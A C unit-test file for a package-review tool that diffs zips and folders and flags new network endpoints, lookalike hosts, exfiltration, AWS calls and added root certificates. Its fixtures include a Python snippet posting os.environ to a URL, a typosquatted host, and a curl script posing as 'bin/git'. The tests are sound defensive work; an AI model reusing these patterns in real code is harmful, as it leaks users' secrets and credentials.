/* SPDX-License-Identifier: Apache-2.0
 *
 * review_zips_test.c - zips and folders, compared by the whole machinery.
 * suite: threads
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/file.h"
#include "review/run.h"
#include "support/zipmake.h"
#include "words_sample.h"

/* Real zips, compared by the whole machinery. */
static struct lw_review *compare(const char *folder, const char *old, const char *new,
                                 enum lw_hunk_wish wish)
{
    struct lw_arena arena = LW_ARENA_INIT;
    struct lw_err err = { 0 };
    struct lw_review *review = NULL;
    const char *a = (const char *)lw_arena_printf(&arena, "%s/%s", folder, old).ptr;
    const char *b = (const char *)lw_arena_printf(&arena, "%s/%s", folder, new).ptr;
    const struct lw_input from = { a, a }, to = { b, b };
    const struct lw_review_options options = {
        .scan = { .engine = { .jobs = 2, .behavior = true, .limits = lw_limits_default() } },
        .config = lw_review_config_default(),
        .hunks = wish,
    };
    if (!lw_ok(lw_review_run(&review, &from, &to, &options, &err)))
        fail_msg("%s", err.text);
    lw_arena_clear(&arena);
    return review;
}

static void write_file(const char *folder, const char *path, struct lw_view text)
{
    struct lw_arena arena = LW_ARENA_INIT;
    const char *whole = (const char *)lw_arena_printf(&arena, "%s/%s", folder, path).ptr;
    const char *above = (const char *)lw_arena_copy(&arena, lw_path_dir(lw_view_c(whole))).ptr;
    struct lw_err err = { 0 };
    if (!lw_ok(lw_mkdirs(above, &err)))
        fail_msg("%s", err.text);
    FILE *file = fopen(whole, "wb");
    assert_non_null(file);
    fwrite(text.ptr, 1, text.len, file);
    fclose(file);
    lw_arena_clear(&arena);
}

static const struct lw_file_change *change_of(const struct lw_review *review, const char *path)
{
    for (size_t i = 0; i < review->files.count; i++)
        if (lw_view_is(lw_file_change_path(&review->files.items[i]), path))
            return &review->files.items[i];
    fail_msg("%s did not change", path);
    return NULL;
}

static void folders(void **state)
{
    const char *folder = *state;
    LW_CLEANUP(lw_buf_clear) struct lw_buf text = LW_BUF_INIT, pyc = LW_BUF_INIT;
    words(&text, 5, 200);
    write_file(folder, "old/python/lib/long.py", lw_buf_view(&text));
    lw_buf_add_c(&text, "one = more\n");
    write_file(folder, "new/python/other/long.py", lw_buf_view(&text));
    write_file(folder, "old/python/a.txt", LW_VIEW("the same, elsewhere"));
    write_file(folder, "new/python/b.txt", LW_VIEW("the same, elsewhere"));
    write_file(folder, "old/python/__init__.py", LW_VIEW(""));
    write_file(folder, "new/python/empty.py", LW_VIEW(""));
    write_file(folder, "old/python/same.py", LW_VIEW("x = 1\n"));
    write_file(folder, "new/python/same.py", LW_VIEW("x = 1\n"));
    write_file(folder, "old/python/changed.py", LW_VIEW("x = 1\ny = 2\n"));
    write_file(folder, "new/python/changed.py", LW_VIEW("x = 1\ny = 3\n"));
    /* A .pyc by time, compiled at another time in another folder of the same length. */
    lw_buf_add(&pyc,
               lw_view("\xa7\x0d\x0d\x0a\0\0\0\0TIME\x08\0\0\0\xe3 code z\x0d/tmp/aaa/m.py\0", 39));
    write_file(folder, "old/python/__pycache__/m.cpython-311.pyc", lw_buf_view(&pyc));
    memcpy(pyc.ptr + 8, "LATE", 4);
    memcpy(pyc.ptr + 30, "bbb", 3);
    write_file(folder, "new/python/__pycache__/m.cpython-311.pyc", lw_buf_view(&pyc));
    struct lw_review *review = compare(folder, "old", "new", LW_HUNKS_ALL);
    assert_int_equal(change_of(review, "python/other/long.py")->state, LW_FILE_RENAMED);
    assert_true(change_of(review, "python/other/long.py")->similarity > 80);
    assert_int_equal(change_of(review, "python/b.txt")->state, LW_FILE_MOVED);
    assert_int_equal(change_of(review, "python/empty.py")->state, LW_FILE_ADDED);
    assert_int_equal(change_of(review, "python/__init__.py")->state, LW_FILE_REMOVED);
    assert_int_equal(change_of(review, "python/changed.py")->state, LW_FILE_CHANGED);
    assert_int_equal(change_of(review, "python/changed.py")->hunks.count, 1);
    assert_int_equal(change_of(review, "python/__pycache__/m.cpython-311.pyc")->state,
                     LW_FILE_TOUCHED);
    assert_int_equal(review->same_files, 1);
    assert_false(review->same_content);
    assert_int_equal(review->verdict, LW_VERDICT_ADOPT);
    lw_review_free(review);
    /* The same against itself. */
    review = compare(folder, "new", "new", LW_HUNKS_ALL);
    assert_true(review->same_content);
    assert_int_equal(review->files.count, 0);
    assert_int_equal(review->reasons.count, 0);
    assert_int_equal(review->facts_added.count, 0);
    lw_review_free(review);
}

/* Code in a .pyc that is other code is no mere touch. */
static void other_code(void **state)
{
    const char *folder = *state;
    /* A name beside the path is not of the path, though all its bytes could be. */
    struct lw_view old = lw_view("\xa7\x0d\x0d\x0a\0\0\0\0TIME\x08\0\0\0\xe3"
                                 "z\x04"
                                 "codez\x2b"
                                 "/tmp/a/folder/of/a/long/name/than/most/m.py",
                                 68);
    struct lw_view new = lw_view("\xa7\x0d\x0d\x0a\0\0\0\0LATE\x08\0\0\0\xe3"
                                 "z\x04"
                                 "evilz\x2b"
                                 "/tmp/a/folder/of/a/long/name/than/most/m.py",
                                 68);
    write_file(folder, "p1/python/__pycache__/m.cpython-311.pyc", old);
    write_file(folder, "p2/python/__pycache__/m.cpython-311.pyc", new);
    struct lw_review *review = compare(folder, "p1", "p2", LW_HUNKS_NONE);
    assert_int_equal(review->files.items[0].state, LW_FILE_CHANGED);
    lw_review_free(review);
}

static const char talks[] = "const https = require('https');\n"
                            "exports.get = () => https.get('https://api.example.com/');\n";

static void write_zip(const char *folder, const char *name, const char *changed, bool first)
{
    struct zipmake z = ZIPMAKE_INIT;
    const char *manifest = first ? "{\"name\": \"lib\", \"version\": \"1.0.0\"}"
                                 : "{\"name\": \"lib\", \"version\": \"1.1.0\"}";
    const struct zipmake_entry entries[] = {
        { .name = "nodejs/node_modules/lib/package.json", .text = manifest, .deflate = true },
        { .name = "nodejs/node_modules/lib/a.js", .text = changed, .deflate = true },
        { .name = "nodejs/node_modules/lib/b.js", .text = talks, .deflate = true },
    };
    for (size_t i = 0; i < LW_COUNT(entries); i++)
        zipmake_add(&z, &entries[i]);
    zipmake_end(&z, NULL);
    write_file(folder, name, lw_buf_view(&z.out));
    zipmake_clear(&z);
}

static const struct lw_fact_change *added_network(const struct lw_review *review)
{
    for (size_t i = 0; i < review->facts_added.count; i++)
        if (lw_fact_is(review->facts_added.items[i].fact, LW_K_CAPABILITY, "network"))
            return &review->facts_added.items[i];
    return NULL;
}

/* What an unchanged file of the package does is not looked at until it matters: then the power is
 * known to be an old one. The same comes of folders, where everything is looked at. */
static void old_power_in_unchanged_file(void **state)
{
    const char *folder = *state;
    write_zip(folder, "one.zip", "exports.one = 1;\n", true);
    write_zip(folder, "two.zip", talks, false);
    struct lw_review *review = compare(folder, "one.zip", "two.zip", LW_HUNKS_NONE);
    const struct lw_fact_change *added = added_network(review);
    assert_non_null(added);
    assert_false(added->new_to_package);
    assert_false(added->new_to_artifact);
    assert_true(lw_view_ends(added->fact->location, LW_VIEW("a.js")));
    lw_review_free(review);
    /* Where it changed nothing, b.js is not said to do anything new. */
    write_zip(folder, "three.zip", "exports.one = 3;\n", false);
    review = compare(folder, "one.zip", "three.zip", LW_HUNKS_NONE);
    assert_null(added_network(review));
    assert_int_equal(review->facts_removed.count, 0);
    lw_review_free(review);
    /* Against a version without b.js, it is new. */
    struct zipmake z = ZIPMAKE_INIT;
    const struct zipmake_entry only = { .name = "nodejs/node_modules/lib/a.js",
                                        .text = "exports.one = 1;\n" };
    zipmake_add(&z, &only);
    zipmake_end(&z, NULL);
    write_file(folder, "none.zip", lw_buf_view(&z.out));
    zipmake_clear(&z);
    review = compare(folder, "none.zip", "one.zip", LW_HUNKS_NONE);
    assert_non_null(added_network(review));
    assert_true(added_network(review)->new_to_package);
    lw_review_free(review);
}

static enum lw_level level_of(const struct lw_review *review, const char *rule)
{
    enum lw_level most = LW_LEVEL_OFF;
    for (size_t i = 0; i < review->reasons.count; i++)
        if (lw_view_is(review->reasons.items[i].rule, rule) &&
            review->reasons.items[i].level > most)
            most = review->reasons.items[i].level;
    return most;
}

/* One version of a layer; the text of a file that it does not have is NULL. */
struct layer_file {
    const char *path, *old, *new;
};

static void write_both(const char *folder, const char *name, const struct layer_file *files,
                       size_t count, bool new_side)
{
    struct lw_arena arena = LW_ARENA_INIT;
    struct zipmake z = ZIPMAKE_INIT;
    for (size_t i = 0; i < count; i++) {
        const char *text = new_side ? files[i].new : files[i].old;
        if (!text)
            continue;
        const struct zipmake_entry entry = {
            .name = files[i].path, .text = text, .mode = 0100644, .deflate = true
        };
        zipmake_add(&z, &entry);
        write_file(folder, (const char *)lw_arena_printf(&arena, "%s/%s", name, files[i].path).ptr,
                   lw_view_c(text));
    }
    zipmake_end(&z, NULL);
    write_file(folder, (const char *)lw_arena_printf(&arena, "%s.zip", name).ptr,
               lw_buf_view(&z.out));
    zipmake_clear(&z);
    lw_arena_clear(&arena);
}

static void same_reasons(const struct lw_review *a, const struct lw_review *b)
{
    assert_int_equal(a->verdict, b->verdict);
    assert_int_equal(a->reasons.count, b->reasons.count);
    for (size_t i = 0; i < a->reasons.count; i++) {
        const struct lw_reason *x = &a->reasons.items[i], *y = &b->reasons.items[i];
        assert_int_equal(x->level, y->level);
        assert_int_equal(x->line, y->line);
        assert_true(lw_view_eq(x->rule, y->rule));
        assert_true(lw_view_eq(x->path, y->path));
        assert_true(lw_view_eq(x->title, y->title));
    }
}

#define METADATA(version) "Metadata-Version: 2.1\nName: carrier\nVersion: " version "\n"
#define PACKAGE                                                                                    \
    { "python/carrier-1.0.0.dist-info/METADATA", METADATA("1.0.0"), NULL },                        \
    {                                                                                              \
        "python/carrier-1.1.0.dist-info/METADATA", NULL, METADATA("1.1.0")                         \
    }

#define ROOT(pem) "-----BEGIN CERTIFICATE-----\n" pem "-----END CERTIFICATE-----\n"
#define ROOT_1                                                                                     \
    ROOT("MIIBhjCCAS2gAwIBAgIUZKCWX5HsLPBguJOdTQCWODM0KjEwCgYIKoZIzj0EAwIw\n"                      \
         "GTEXMBUGA1UEAwwORXhhbXBsZSBSb290IDEwHhcNMjYxMTIzMDE1NzUxWhcNMzYx\n"                      \
         "MTIwMDE1NzUxWjAZMRcwFQYDVQQDDA5FeGFtcGxlIFJvb3QgMTBZMBMGByqGSM49\n"                      \
         "AgEGCCqGSM49AwEHA0IABCTYEmN8sQ3jxQSDw/HtZwIfYc915al/bhowizTMh/4E\n"                      \
         "sRmV+XlpKvxZP3fqVPXlx6ACx81c2Dxja+7ukaPipdSjUzBRMB0GA1UdDgQWBBTO\n"                      \
         "Dto1TqvrGSzLFZWGCqYX5D81LDAfBgNVHSMEGDAWgBTODto1TqvrGSzLFZWGCqYX\n"                      \
         "5D81LDAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cAMEQCIEegT8qW6gVK\n"                      \
         "5IzSwsUVK4rAgilzk20StAGfVpnxYGstAiAYTU8ml5/W07sB/9uKgs+0rafB/iQp\n"                      \
         "nTnsaB8mxDjbwA==\n")
#define ROOT_2                                                                                     \
    ROOT("MIIBhjCCAS2gAwIBAgIUZYElO9aXEJmn0Esg78pHrf7y28owCgYIKoZIzj0EAwIw\n"                      \
         "GTEXMBUGA1UEAwwORXhhbXBsZSBSb290IDIwHhcNMjYxMTIzMDE1NzUxWhcNMzYx\n"                      \
         "MTIwMDE1NzUxWjAZMRcwFQYDVQQDDA5FeGFtcGxlIFJvb3QgMjBZMBMGByqGSM49\n"                      \
         "AgEGCCqGSM49AwEHA0IABO+ZCG03NIYAxrHoesTwKVtbz8ae1AvY6Wuk0BJbVfkr\n"                      \
         "9/5HNmJYiKA2P2oPtmuqjTtNPchcoq7MDQaqUYfAKkyjUzBRMB0GA1UdDgQWBBQ9\n"                      \
         "uV5IIEAPUY9F+7LrbOhJxLn8nDAfBgNVHSMEGDAWgBQ9uV5IIEAPUY9F+7LrbOhJ\n"                      \
         "xLn8nDAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cAMEQCIExo/DBSntg+\n"                      \
         "8VjgUrSnfslxwxYpBlYajNbJLClFFaJEAiBIzDLjVbaD0chn5chbpWhKQ9ozYM9E\n"                      \
         "HckMDZ5tTYg0nA==\n")

#define SENDS                                                                                      \
    "import urllib.request\n\n\ndef put(path, x):\n    urllib.request.urlopen(URL + path, x)\n"
#define HANDS "import os\nfrom .b import put\n\n\ndef f():\n    put('/p', dict(os.environ))\n"
#define LISTS                                                                                      \
    "import boto3\n\n\ndef f():\n    s3 = boto3.client('s3')\n"                                    \
    "    for x in s3.list_buckets():\n        s3.get_object(Bucket=x, Key='a')\n"
#define CALLS(service) "import boto3\n\n\ndef g():\n    boto3.client('" service "').put_it(A='a')\n"
#define NAMES(host) "A = 'https://" host "'\n"
#define MUTE "A = 1\n"
#define BOTH(path, text)                                                                           \
    {                                                                                              \
        path, text, text                                                                           \
    }
#define A_PY "python/carrier/a.py"
#define B_PY "python/carrier/b.py"

static const struct {
    const char *rule;
    enum lw_level level;
    struct layer_file files[4];
} alike[] = {
    { "endpoint-added",
      LW_LEVEL_NOTE, /* of an owner that b.py names */
      { PACKAGE,
        { A_PY, MUTE, NAMES("files.haulage.corp:8443") },
        BOTH(B_PY, NAMES("www.haulage.corp")) } },
    { "endpoint-added",
      LW_LEVEL_REVIEW,
      { PACKAGE, { A_PY, MUTE, NAMES("files.haulage.corp:8443") }, BOTH(B_PY, MUTE) } },
    { "lookalike-server",
      LW_LEVEL_BLOCK, /* of the one that b.py names */
      { PACKAGE,
        { A_PY, MUTE, NAMES("api.parcelpsot.com:8443") },
        BOTH(B_PY, NAMES("api.parcelpost.com:8443")) } },
    { "exfiltration",
      LW_LEVEL_BLOCK, /* b.py sends what it is handed */
      { { "python/acme/a.py", MUTE, HANDS }, BOTH("python/acme/b.py", SENDS) } },
    { "aws-call-added",
      LW_LEVEL_NOTE, /* b.py calls S3 */
      { PACKAGE, { A_PY, MUTE, LISTS }, BOTH(B_PY, CALLS("s3")) } },
    { "aws-call-added",
      LW_LEVEL_BLOCK,
      { PACKAGE, { A_PY, MUTE, LISTS }, BOTH(B_PY, CALLS("sqs")) } },
    { "authority-added",
      LW_LEVEL_REVIEW, /* the package has somebody's root */
      { PACKAGE, { "python/carrier/a.pem", NULL, ROOT_1 }, BOTH("python/carrier/b.pem", ROOT_2) } },
    { "authority-added",
      LW_LEVEL_BLOCK,
      { PACKAGE, { "python/carrier/a.pem", NULL, ROOT_1 }, BOTH(B_PY, MUTE) } },
};

/* What is judged by what an unchanged file says, which of zips is not looked at for itself. */
static void zips_are_judged_as_folders(void **state)
{
    const char *folder = *state;
    for (size_t i = 0; i < LW_COUNT(alike); i++) {
        struct lw_arena arena = LW_ARENA_INIT;
        const char *names[4];
        for (size_t n = 0; n < LW_COUNT(names); n++)
            names[n] = (const char *)lw_arena_printf(&arena, "both%zu/%s%s", i,
                                                     n % 2 ? "new" : "old", n < 2 ? "" : ".zip")
                           .ptr;
        size_t count = 0;
        while (count < LW_COUNT(alike[i].files) && alike[i].files[count].path)
            count++;
        write_both(folder, names[0], alike[i].files, count, false);
        write_both(folder, names[1], alike[i].files, count, true);
        struct lw_review *of_folders = compare(folder, names[0], names[1], LW_HUNKS_NONE);
        struct lw_review *of_zips = compare(folder, names[2], names[3], LW_HUNKS_NONE);
        if (level_of(of_folders, alike[i].rule) != alike[i].level)
            fail_msg("case %zu: %s is of level %d", i, alike[i].rule,
                     (int)level_of(of_folders, alike[i].rule));
        same_reasons(of_folders, of_zips);
        lw_review_free(of_folders);
        lw_review_free(of_zips);
        lw_arena_clear(&arena);
    }
}

static void write_script(const char *folder, const char *name, const char *path, uint32_t mode)
{
    struct zipmake z = ZIPMAKE_INIT;
    const struct zipmake_entry script = {
        .name = path, .text = "#!/bin/sh\ncurl -s https://example.com/ -d \"$1\"\n", .mode = mode
    };
    zipmake_add(&z, &script);
    zipmake_end(&z, NULL);
    write_file(folder, name, lw_buf_view(&z.out));
    zipmake_clear(&z);
}

/* A file that lay where nothing runs it, and now stands where something does: the same bytes, but
 * what they do is new. */
static void comes_to_run(void **state)
{
    const char *folder = *state;
    write_script(folder, "lies.zip", "docs/git", 0100644);
    write_script(folder, "runs.zip", "bin/git", 0100755);
    write_script(folder, "moved.zip", "notes/git", 0100644);
    struct lw_review *review = compare(folder, "lies.zip", "runs.zip", LW_HUNKS_NONE);
    assert_non_null(added_network(review));
    assert_true(added_network(review)->new_to_package);
    lw_review_free(review);
    review = compare(folder, "lies.zip", "moved.zip", LW_HUNKS_NONE);
    assert_null(added_network(review));
    lw_review_free(review);
}

static int make_folder(void **state)
{
    static char folder[] = "/tmp/layerward-review-XXXXXX";
    *state = mkdtemp(folder);
    return *state ? 0 : -1;
}

static int drop_folder(void **state)
{
    struct lw_arena arena = LW_ARENA_INIT;
    const char *command = (const char *)lw_arena_printf(&arena, "rm -rf '%s'", (char *)*state).ptr;
    int status = system(command); /* a folder of our own making */
    lw_arena_clear(&arena);
    return status;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(folders),
        cmocka_unit_test(other_code),
        cmocka_unit_test(old_power_in_unchanged_file),
        cmocka_unit_test(zips_are_judged_as_folders),
        cmocka_unit_test(comes_to_run),
    };
    return cmocka_run_group_tests(tests, make_folder, drop_folder);
}
